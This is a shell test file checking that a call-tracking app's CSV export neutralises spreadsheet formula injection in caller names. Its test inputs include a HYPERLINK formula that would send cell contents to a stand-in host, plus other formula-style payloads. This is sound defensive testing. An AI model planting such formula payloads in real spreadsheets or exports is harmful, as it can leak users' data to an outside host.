#!/usr/bin/env bats
# The CSV export: cells a spreadsheet cannot run as formulas, whoever
# chose the caller's name.

load helpers

setup_file() {
	make_fixture_org
}

T=$CALLTRACK_FIXTURES/twilio

# An inbound Twilio call from FROM (digits after +1415555) with
# CallerName NAME, signed and sent.
twilio_named() {	# SID FROM NAME
	local f=$BATS_TEST_TMPDIR/$1.form enc
	enc=$(/usr/bin/python3 -c 'import sys, urllib.parse; print(urllib.parse.quote_plus(sys.argv[1]))' "$3")
	sed -e "s/CallSid=CA[0-9a-f]\{32\}/CallSid=$1/" \
	    -e "s/From=%2B14155550131/From=%2B1415555$2/; s/Caller=%2B14155550131/Caller=%2B1415555$2/" \
	    -e "s/&FromState=CA/\&FromState=CA\&CallerName=$enc/" "$T/inbound-completed.form" >"$f"
	req POST "/hooks/twilio/twilio-$SUF" -H 'Content-Type: application/x-www-form-urlencoded' \
	    -H "$(twilio_sig "$f" "$TWILIO_PUBLIC_URL")" --data-binary @"$f"
	expect 200
}

@test "CSV: a cell that starts like a formula is quoted text; numbers and phone numbers stay" {
	twilio_named CAcsv1 0201 '=HYPERLINK("http://x.example/?"&A1,"open")'
	twilio_named CAcsv2 0202 '+SUM(A1:A9)'
	twilio_named CAcsv3 0203 '-2+3'
	twilio_named CAcsv4 0204 '@SUM(A1)'
	twilio_named CAcsv5 0205 $'\t=1+1'
	twilio_named CAcsv6 0206 $'\r=1+1'
	twilio_named CAcsv7 0207 '-3.5'
	req GET "/api/calls?format=csv" -H "Authorization: Bearer $TOKEN"
	expect 200
	[[ "$BODY" == *",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\",contact,+14155550201,"* ]]
	[[ "$BODY" == *",\"'+SUM(A1:A9)\",contact,+14155550202,"* ]]
	[[ "$BODY" == *",\"'-2+3\",contact,+14155550203,"* ]]
	[[ "$BODY" == *",\"'@SUM(A1)\",contact,+14155550204,"* ]]
	[[ "$BODY" == *$',"\'\t=1+1",contact,+14155550205,'* ]]
	[[ "$BODY" == *$',"\'\r=1+1",contact,+14155550206,'* ]]
	# A negative number and the phone numbers are no formulas.
	[[ "$BODY" == *",-3.5,contact,+14155550207,"* ]]
	# Seven rows, and no cell in them starts with = or @.
	[ "$(grep -c '^[0-9a-f]\{8\}-' <<<"$BODY")" = 7 ]
	! grep -qE '(^|,)[=@]' <<<"$BODY"
}
